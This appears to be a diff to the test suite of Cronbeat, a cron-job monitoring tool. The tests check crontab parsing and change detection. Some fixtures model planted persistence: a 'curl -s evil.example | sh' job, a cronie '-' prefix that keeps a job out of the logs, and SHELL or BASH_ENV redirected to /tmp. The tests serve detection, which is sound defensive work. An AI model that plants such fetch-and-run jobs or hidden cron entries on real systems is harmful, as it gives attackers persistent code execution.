@@ -7,7 +7,7 @@ import { jobsOf, parseCrontab, splitPercent, type CronJob } from '../../agent/cl
 import { failOpenLine, monitoredLine, monitoredToken, rewriteJobLine, shellProblem, tooLongToWrap, undoneLine } from '../../agent/cli/crontab/rewrite';
 import { defaultShimDir, volatilePlace } from '../../agent/cli/crontab/shim';
 import { diffSnapshots, snapshotJobs } from '../../agent/cli/crontab/snapshot';
-import { fileSource } from '../../agent/cli/crontab/sources';
+import { fileSource, USER_SPOOLS } from '../../agent/cli/crontab/sources';
 
 const fixture = (name: string) => readFileSync(join(__dirname, 'fixtures', name), 'utf8');
 
@@ -217,6 +217,41 @@ describe('snapshot differences', () => {
   const snap = (text: string) => snapshotJobs('/etc/crontab', null, parseCrontab(text, 'system'));
   const before = snap('0 3 * * * root /backup.sh --password=a\n*/5 * * * * www /poll.sh\n');
 
+  it("sees a changed setting, which changes what every job below it runs, where it runs, when, and who reads its output", () => {
+    const settings = (text: string) => snapshotJobs('/etc/cron.d/app', null, parseCrontab(text, 'system'));
+    const was = settings('SHELL=/bin/sh\nMAILTO=ops@example.com\nPGPASSWORD=a\n0 3 * * * root /backup.sh\n');
+    const now = settings('SHELL=/tmp/.x/sh\nMAILTO=ops@example.com\nPGPASSWORD=b\nBASH_ENV=/tmp/.x/env\n0 3 * * * root /backup.sh\n');
+    expect(diffSnapshots(was, now).map((c) => [c.kind, c.user, c.text, c.previous])).toEqual([
+      ['altered', 'root', 'SHELL=/tmp/.x/sh', 'SHELL=/bin/sh'],
+      ['altered', 'root', 'PGPASSWORD=***', 'PGPASSWORD=***'],
+      ['added', 'root', 'BASH_ENV=/tmp/.x/env', null],
+    ]);
+    // Only the same setting pairs up: a removed MAILTO and an added PATH are two changes.
+    expect(diffSnapshots(settings('MAILTO=a@example.com\n'), settings('PATH=/tmp/.x\n')).map((c) => c.kind)).toEqual(['added', 'removed']);
+    expect(diffSnapshots(settings('SHELL=/bin/sh\n'), settings('SHELL = "/bin/sh"\n'))).toEqual([]);
+  });
+
+  it('sees a line given Windows line ends as altered: cron hands the carriage return to the shell, and the job no longer runs', () => {
+    const dos = snap('0 3 * * * root /backup.sh --password=a\r\n*/5 * * * * www /poll.sh\n');
+    expect(diffSnapshots(before, dos)).toEqual([
+      {
+        kind: 'altered',
+        user: 'root',
+        text: '0 3 * * * /backup.sh --password=*** (and a carriage return, which cron passes to the shell with the command)',
+        previous: '0 3 * * * /backup.sh --password=***',
+      },
+    ]);
+  });
+
+  it('sees a line Cronbeat cannot read as a job but some cron runs (Debian runs 5/20 at :05), as it is written, with its user', () => {
+    const planted = snap('0 3 * * * root /backup.sh --password=a\n*/5 * * * * www /poll.sh\n5/20 * * * * root curl -s evil.example | sh\n@DAILY nobody /x.sh --token=abc\n');
+    expect(diffSnapshots(before, planted).map((c) => [c.kind, c.user, c.text])).toEqual([
+      ['added', 'root', '5/20 * * * * root curl -s evil.example | sh'],
+      ['added', 'nobody', '@DAILY nobody /x.sh --token=***'],
+    ]);
+    expect(snapshotJobs('crontab -l', 'alice', parseCrontab('0 0 * * mon-sun /weekly.sh\n', 'user')).map((job) => [job.user, job.text])).toEqual([['alice', '0 0 * * mon-sun /weekly.sh']]);
+  });
+
   it('sees an edited line as one altered job, masked', () => {
     expect(diffSnapshots(before, snap('0 3 * * * root /backup.sh --password=b\n*/5 * * * * www /poll.sh\n'))).toEqual([
       { kind: 'altered', user: 'root', text: '0 3 * * * /backup.sh --password=***', previous: '0 3 * * * /backup.sh --password=***' },
@@ -303,5 +338,45 @@ describe('whose jobs a crontab file holds', () => {
     expect(fileSource('/var/spool/cron/crontabs/alice')).toMatchObject({ format: 'user', owner: 'alice' });
     expect(fileSource('/var/spool/cron/bob')).toMatchObject({ format: 'user', owner: 'bob' });
     expect(fileSource('/etc/cron.d/backup')).toMatchObject({ format: 'system', owner: null });
+  });
+
+  it("knows the spools of macOS's and the BSDs' cron too, so root's watcher there reads every user's crontab, each as its user's", () => {
+    expect(fileSource('/var/at/tabs/carol')).toMatchObject({ format: 'user', owner: 'carol' });
+    expect(fileSource('/usr/lib/cron/tabs/carol')).toMatchObject({ format: 'user', owner: 'carol' });
+    expect(fileSource('/var/cron/tabs/dave')).toMatchObject({ format: 'user', owner: 'dave' });
+    expect(USER_SPOOLS).toEqual(expect.arrayContaining(['/var/spool/cron/crontabs', '/var/spool/cron', '/var/at/tabs', '/var/cron/tabs']));
+  });
+});
+
+describe('lines cron skips are never taken for jobs', () => {
+  it('reads a macro only in lower case, as every cron does (@DAILY is no macro: cron skips the line)', () => {
+    const lines = parseCrontab('@DAILY /upper.sh\n@Hourly /mixed.sh\n@daily /lower.sh\n', 'user');
+    expect(lines.map((line) => line.kind)).toEqual(['invalid', 'invalid', 'job', 'blank']);
+    expect(lines[0]).toMatchObject({ reason: 'cron has no macro "@DAILY" (its macros are in lower case: @daily), so it skips this line' });
+    expect(jobsOf(lines)).toHaveLength(1);
+  });
+
+  it('parts the fields, the user column and the command at spaces and tabs only, as cron does: a no-break space pasted from a web page is no separator', () => {
+    const lines = parseCrontab('0 3\u00a0* * * /nbsp.sh\n@daily\u00a0/nbsp-macro.sh\n0 3 * * *\u00a0/nbsp-command.sh\n0\t3 * * *\t/tabs.sh\n', 'user');
+    expect(lines.map((line) => line.kind)).toEqual(['invalid', 'invalid', 'invalid', 'job', 'blank']);
+    expect(lines[0]).toMatchObject({ reason: 'the schedule has a no-break space (U+00A0) where cron parts fields at spaces and tabs only, so cron refuses the line' });
+    expect(lines[2]).toMatchObject({ reason: 'the schedule has a no-break space (U+00A0) where cron parts fields at spaces and tabs only, so cron refuses the line' });
+    expect(jobsOf(lines)[0]).toMatchObject({ schedule: '0 3 * * *', command: '/tabs.sh' });
+    const system = parseCrontab('0 3 * * * root\u00a0/nbsp-user.sh\n', 'system');
+    expect(jobsOf(system)).toEqual([]);
+  });
+
+  it("takes a line whose schedule starts with cronie's '-' (run it without logging) for a job the watcher sees, never one discover rewrites", () => {
+    // cronie runs it, unlogged: a line planted so would hide from its log and, read as invalid, from the watcher too.
+    const lines = parseCrontab('-*/5 * * * * curl -s evil.example | sh\n-@daily /quiet.sh\n', 'user');
+    const jobs = jobsOf(lines);
+    expect(jobs.map((job) => [job.written, job.schedule, job.command])).toEqual([
+      ['-*/5 * * * *', '*/5 * * * *', 'curl -s evil.example | sh'],
+      ['-@daily', '0 0 * * *', '/quiet.sh'],
+    ]);
+    for (const job of jobs) expect(job.unmonitorable).toMatch(/^the "-" before its schedule .*cronie.*Debian's cron skips the line/);
+    const changes = diffSnapshots([], snapshotJobs('crontab -l', 'root', lines));
+    expect(changes.map((change) => change.text)).toEqual(['-*/5 * * * * curl -s evil.example | sh', '-@daily /quiet.sh']);
+    expect(jobsOf(parseCrontab('- */5 * * * * /spaced.sh\n', 'user'))).toEqual([]);
   });
 });
